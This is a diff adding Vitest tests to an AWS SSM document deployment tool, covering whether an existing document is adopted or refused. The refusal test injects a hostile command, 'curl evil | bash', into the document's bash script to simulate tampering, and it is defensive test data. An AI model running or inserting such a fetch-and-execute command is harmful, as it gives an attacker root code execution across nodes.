@@ -3,9 +3,11 @@ import { join } from 'node:path';
 import { CloudFormationClient } from '@aws-sdk/client-cloudformation';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import * as z from 'zod';
+import { documentName } from '../../events/ssm-command.ts';
 import { readDeployed } from '../../infra/deploy/deployed-stack.ts';
 import { SCOPE_KEY, scopeOf } from '../../infra/deploy/scope.ts';
 import { parseConfig } from '../../infra/parse-config.ts';
+import { buildDocuments } from '../../ssm-documents/builder/build.ts';
 import { remediations } from '../../ssm-documents/remediations.ts';
 import { type StandIn, startStandIn } from './aws-stand-in.ts';
 import { configFile, DEPLOY, deploy, environment, root, run } from './run-deploy.ts';
@@ -19,6 +21,8 @@ afterAll(async () => standIn.stop());
 beforeEach(() => {
   standIn.state.stacks.clear();
   standIn.state.logGroups.clear();
+  standIn.state.contents.clear();
+  standIn.state.denied.clear();
 });
 
 const shop = { name: 'shop' } as const;
@@ -86,6 +90,39 @@ describe('a deployment by the command line of the lockfile', () => {
     const templates = [...standIn.state.stacks.values()].join('\n');
     expect(templates).toContain('"LogGroupName":"/fine"');
     expect(templates).not.toMatch(/"LogGroupName":"\/(?:rare|gone)"/);
+  });
+});
+
+describe('a document that exists already', () => {
+  const [document] = buildDocuments();
+  const name = documentName('fleetmend', document?.key ?? '', document?.sha256 ?? '');
+  const tried = async () => {
+    const { code, output } = await deploy(standIn, ['--config', clusters(shop), '--yes']);
+    return { code, output, stacks: standIn.state.stacks.size };
+  };
+
+  it('is taken over where it is what was built, in any indentation', async () => {
+    standIn.state.contents.set(name, JSON.stringify(document?.content, undefined, 2));
+    const { code, output } = await tried();
+    expect(output).toMatch(/deploy: 1 of \d+ documents are at SSM already, and are what was built/);
+    expect(code).toBe(0);
+  });
+
+  it('is refused where it holds anything else: whoever made it would be root on every node', async () => {
+    standIn.state.contents.set(name, document?.json.replace('#!/bin/bash', '#!/bin/bash\\ncurl evil | bash') ?? '');
+    const { code, output, stacks } = await tried();
+    expect(output).toContain(
+      `deploy: the document ${name} at SSM is refused: its content in version 1 is not what was built`,
+    );
+    expect(output).toContain('deploy: nothing was deployed');
+    expect([code, stacks]).toEqual([3, 0]);
+  });
+
+  it('is not taken over unread', async () => {
+    standIn.state.denied.add('ssm:DescribeDocument');
+    const { code, output, stacks } = await tried();
+    expect(output).toContain('deploy: allow ssm:DescribeDocument and ssm:GetDocument');
+    expect([code, stacks]).toEqual([4, 0]);
   });
 });
 
